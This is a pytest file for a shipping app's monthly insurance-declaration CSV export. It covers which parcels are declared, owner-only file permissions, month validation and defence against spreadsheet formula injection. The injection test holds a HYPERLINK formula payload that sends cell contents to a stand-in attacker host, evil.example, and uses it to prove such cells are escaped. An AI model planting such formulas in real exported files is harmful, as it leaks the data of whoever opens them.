"""The insurer's monthly declaration: each parcel whose cover began that month (its first
carrier scan), with its policy, insured value and cover window; a file readable by its owner
only, its cells safe in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from app.leads.db import transaction
from app.shipping import declarations
from tests.helpers import lead_work_done
from tests.shipping.steps import bought_label, deliver, tracking_event


def scanned_on(app, shipment_id: int, moment: str) -> None:
    with app.app_context(), transaction() as db:
        db.execute("UPDATE shipments SET first_scan_at = ? WHERE id = ?", (moment, shipment_id))


def test_a_month_declares_the_parcels_whose_cover_began_in_it(mailin_app, easypost, tmp_path):
    parcel, later, unscanned = (bought_label(mailin_app) for _ in range(3))
    client = mailin_app.test_client()
    deliver(client, tracking_event(parcel["tracking_code"], "in_transit"))
    deliver(client, tracking_event(parcel["tracking_code"], "delivered"))
    deliver(client, tracking_event(later["tracking_code"], "in_transit"))
    lead_work_done(mailin_app)
    scanned_on(mailin_app, later["id"], "2099-01-03T10:00:00+00:00")
    target = tmp_path / "declaration.csv"
    month = parcel_month(mailin_app, parcel["id"])
    result = mailin_app.test_cli_runner().invoke(
        args=["shipping", "declarations", "--month", month, "--output", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert f"Declared 1 parcels of {month}" in result.output
    assert target.stat().st_mode & 0o077 == 0
    [row] = list(csv.DictReader(io.StringIO(target.read_text())))
    assert row["tracking_code"] == parcel["tracking_code"] and row["leg"] == "inbound"
    assert row["policy"] == "HV-PARCEL-2026-0417" and row["insured_value_usd"] == "18500"
    assert row["cover_from"] and row["cover_to"] >= row["cover_from"]
    assert row["state"] == "delivered"
    assert unscanned["tracking_code"] not in target.read_text()  # no scan, no cover yet


def parcel_month(app, shipment_id: int) -> str:
    with app.app_context(), transaction() as db:
        row = db.execute("SELECT first_scan_at FROM shipments WHERE id = ?", (shipment_id,))
        return row.fetchone()[0][:7]


def test_a_month_that_is_not_one_is_refused_clearly(mailin_app):
    result = mailin_app.test_cli_runner().invoke(
        args=["shipping", "declarations", "--month", "November"]
    )
    assert result.exit_code == 2 and "'November' does not match the format '%Y-%m'" in result.output


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_a_spreadsheet_would_run_is_written_as_text(mailin_app, easypost, start):
    parcel = bought_label(mailin_app)
    deliver(mailin_app.test_client(), tracking_event(parcel["tracking_code"], "in_transit"))
    lead_work_done(mailin_app)
    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"7Z41 K9Q2")'
    columns = ("leg", "policy", "insured_value", "carrier", "service", "tracking_code",
               "bought_at", "delivered_at", "state", "exception_status")  # fmt: skip
    with mailin_app.app_context(), transaction() as db:
        db.execute("PRAGMA ignore_check_constraints = ON")  # every column, its checks or not
        db.execute(f"UPDATE shipments SET {', '.join(f'{c} = :text' for c in columns)}",
                   {"text": text})  # fmt: skip
        db.execute("UPDATE leads SET reference = ?", (text,))
        db.execute(
            "INSERT INTO shipment_claims (shipment_id, kind, state, insurer_reference, "
            "opened_by, opened_at, amount, settled_by, settled_at, delivered_at) "
            "VALUES (:id, :text, :text, :text, 'staff:1', :text, :text, 'staff:2', :text, :text)",
            {"id": parcel["id"], "text": text},
        )
    month = parcel_month(mailin_app, parcel["id"])
    with mailin_app.app_context():
        written = io.StringIO()
        assert declarations.write_csv(written, month) == 1
    [header, row] = list(csv.reader(io.StringIO(written.getvalue())))
    cells = dict(zip(header, row, strict=True))
    assert cells.pop("cover_from").startswith(month)  # the first scan's time picks the month
    assert cells == dict.fromkeys(cells, "'" + text) | {"claim": f"'{text}: {text}"}
